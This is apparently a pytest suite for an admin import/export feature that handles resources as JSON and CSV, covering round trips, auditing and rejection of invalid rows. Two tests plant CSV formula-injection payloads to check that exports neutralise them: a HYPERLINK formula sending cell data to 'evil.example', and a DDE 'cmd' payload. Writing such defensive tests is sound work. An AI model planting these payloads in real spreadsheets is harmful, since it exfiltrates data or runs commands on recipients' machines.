"""Admin import and export of resources as JSON and CSV; every export is audited."""

from __future__ import annotations

import csv
import io
import json

from sqlalchemy import select

from webhooks.extensions import db
from webhooks.models import AuditEvent, Resource, ResourceChange
from webhooks.services.resources import seed_resources


def seeded(app) -> int:
    with app.app_context():
        count = seed_resources()
        db.session.commit()
        return count


def upload(admin, name, body):
    return admin.post(
        "/admin/resources/import",
        {"file": (io.BytesIO(body.encode()), name)},
        content_type="multipart/form-data",
    )


def test_json_export_and_import_round_trip(app, signed_in):
    total = seeded(app)
    admin = signed_in("admin")
    response = admin.get("/admin/resources/export.json")
    exported = json.loads(response.get_data(as_text=True))
    assert response.headers["Content-Disposition"] == "attachment; filename=resources.json"
    assert len(exported) == total and exported[0]["description"]["en"]
    exported[0]["hours"] = "Weekends"
    exported.append({**exported[1], "id": None, "name": "A copy"})
    result = upload(admin, "resources.json", json.dumps(exported))
    assert result.status_code == 302
    assert "1 new, 1 updated" in admin.get("/admin/resources").get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Resource, exported[0]["id"]).hours == "Weekends"
        assert len(db.session.scalars(select(Resource)).all()) == total + 1
        assert {c.action for c in db.session.scalars(select(ResourceChange))} == {"imported"}
        actions = db.session.scalars(select(AuditEvent.action)).all()
        assert "resources_exported" in actions and "resources_imported" in actions


def test_csv_export_and_import_round_trip(app, signed_in):
    seeded(app)
    admin = signed_in("admin")
    text = admin.get("/admin/resources/export.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {"id", "category", "description_en", "description_es"} <= set(rows[0])
    rows[0]["description_es"] = "Nueva descripción"
    rows[0]["active"] = "no"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    assert upload(admin, "resources.csv", "\ufeff" + out.getvalue()).status_code == 302
    with app.app_context():
        resource = db.session.get(Resource, int(rows[0]["id"]))
        assert resource.description("es") == "Nueva descripción" and not resource.active
        changes = db.session.scalars(select(ResourceChange)).all()
        assert len(changes) == 1  # unchanged rows leave no history


def test_an_invalid_row_imports_nothing(app, signed_in):
    admin = signed_in("admin")
    body = json.dumps(
        [
            {"category": "legal", "name": "Good", "description": {"en": "fine"}},
            {"category": "spaceship", "name": "Bad"},
            {"category": "legal", "name": "Other", "description": {"xx": "?"}},
        ]
    )
    response = upload(admin, "r.json", body)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Row 2: Category must be one of" in page and "Row 3: No catalog" in page
    assert "Nothing was imported" in page
    with app.app_context():
        assert db.session.scalar(select(Resource.id)) is None
    assert upload(admin, "r.json", "{not json").status_code == 400
    assert upload(admin, "r.csv", "name\nonly names\n").status_code == 400


def test_csv_exports_neutralise_formulas_and_import_them_back_as_text(app, signed_in):
    seeded(app)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with app.app_context():
        resource = db.session.scalars(select(Resource).order_by(Resource.id)).first()
        resource.name, resource.phone, resource.hours = formula, "+1 555 0100", "@sum(1)"
        resource_id = resource.id
        db.session.commit()
    admin = signed_in("admin")
    text = admin.get("/admin/resources/export.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    row = next(r for r in rows if r["id"] == str(resource_id))
    assert row["name"] == "'" + formula and row["phone"] == "'+1 555 0100"
    assert upload(admin, "resources.csv", text).status_code == 302
    with app.app_context():  # the round trip gives the same text back
        resource = db.session.get(Resource, resource_id)
        assert (resource.name, resource.phone, resource.hours) == (
            formula,
            "+1 555 0100",
            "@sum(1)",
        )


def test_the_audit_export_neutralises_formulas(app, signed_in):
    from webhooks.services import audit

    with app.app_context():
        audit.record("=cmd|' /C calc'!A0", "-danger", None, note="+x")
        db.session.commit()
    supervisor = signed_in("supervisor")
    text = supervisor.get("/console/audit/export.csv").get_data(as_text=True)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "'=cmd" in text and "'-danger" in text
